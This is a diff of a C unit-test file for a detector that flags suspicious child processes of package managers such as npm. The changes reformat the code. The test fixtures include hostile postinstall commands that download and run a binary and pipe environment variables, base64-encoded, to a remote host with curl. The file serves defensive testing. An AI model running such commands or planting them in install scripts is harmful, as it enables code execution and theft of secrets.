@@ -275,7 +275,8 @@ static void test_download_and_execute(void **state)
 	expect(proc(sh, &npm_sess, "/usr/bin/dash", "sh"), RULE_PM_CHILD, SEV_HIGH,
 	       "shell reading commands from stdin");
 	expect(npm_script(npm, "curl -o /tmp/x http://x/x && chmod +x /tmp/x && /tmp/x",
-			  "postinstall"), RULE_PM_CHILD, SEV_HIGH, NULL);
+			  "postinstall"),
+	       RULE_PM_CHILD, SEV_HIGH, NULL);
 }
 
 static void test_reverse_shell(void **state)
@@ -346,8 +347,8 @@ static void test_quiet_builds(void **state)
 
 	(void)state;
 	expect_none(npm_script(npm, "node install.js", "install"));
-	expect_none(proc(npm_script(npm, "node install.js", "install"), &npm_sess,
-			 "/usr/bin/node", "node install.js"));
+	expect_none(proc(npm_script(npm, "node install.js", "install"), &npm_sess, "/usr/bin/node",
+			 "node install.js"));
 	expect_none(npm_script(npm, "node -e require(\"fs\").writeFileSync(\"x.json\",\"{}\")",
 			       "postinstall"));
 	expect_none(proc(npm, &npm_sess, "/usr/bin/node",
@@ -651,8 +652,8 @@ static void test_credentials_and_registry(void **state)
 	       RULE_PM_CHILD, SEV_MEDIUM, "non-TLS or unverified registry");
 	expect_none(proc(npm, &npm_sess, "/usr/bin/node",
 			 "node /usr/bin/npm install --registry https://registry.npmjs.org/ x"));
-	expect(npm_script(npm, "echo ZXZpbA== | base64 -d > /tmp/x", "postinstall"),
-	       RULE_PM_CHILD, SEV_HIGH, "base64 decoding");
+	expect(npm_script(npm, "echo ZXZpbA== | base64 -d > /tmp/x", "postinstall"), RULE_PM_CHILD,
+	       SEV_HIGH, "base64 decoding");
 	expect(npm_script(npm, "perl -e print", "postinstall"), RULE_PM_CHILD, SEV_MEDIUM,
 	       "interpreter one-liner");
 	expect(npm_script(npm, "env | base64 -w0 | curl -d @- http://10.0.0.1/", "postinstall"),
@@ -664,9 +665,10 @@ static void test_credentials_and_registry(void **state)
 struct pm_case {
 	const char *exe;
 	const char *cmdline;
-	const char *pm;		/* NULL: not a package manager */
+	const char *pm; /* NULL: not a package manager */
 };
 
+/* clang-format off */
 static const struct pm_case pm_cases[] = {
 	{ "/usr/bin/node", "node /usr/bin/npm install", "npm" },
 	{ "/usr/bin/node", "/usr/bin/node /usr/lib/node_modules/npm/bin/npm-cli.js ci", "npm" },
@@ -702,6 +704,7 @@ static const struct pm_case pm_cases[] = {
 	{ "/usr/local/go/bin/go", "go version", NULL },
 	{ "/usr/bin/dotnet", "dotnet --info", NULL },
 };
+/* clang-format on */
 
 static void test_package_managers(void **state)
 {
@@ -716,8 +719,8 @@ static void test_package_managers(void **state)
 		if (!pm_cases[i].pm && pm)
 			fail_msg("\"%s\" taken for %s", pm_cases[i].cmdline, pm->name);
 		if (pm_cases[i].pm && (!pm || strcmp(pm->name, pm_cases[i].pm) != 0))
-			fail_msg("\"%s\": expected %s, got %s", pm_cases[i].cmdline,
-				 pm_cases[i].pm, pm ? pm->name : "none");
+			fail_msg("\"%s\": expected %s, got %s", pm_cases[i].cmdline, pm_cases[i].pm,
+				 pm ? pm->name : "none");
 	}
 	/* found in /proc, npm's argv is its title: "npm install" then empty strings */
 	p = proc(NULL, NULL, "/usr/bin/node", "npm");
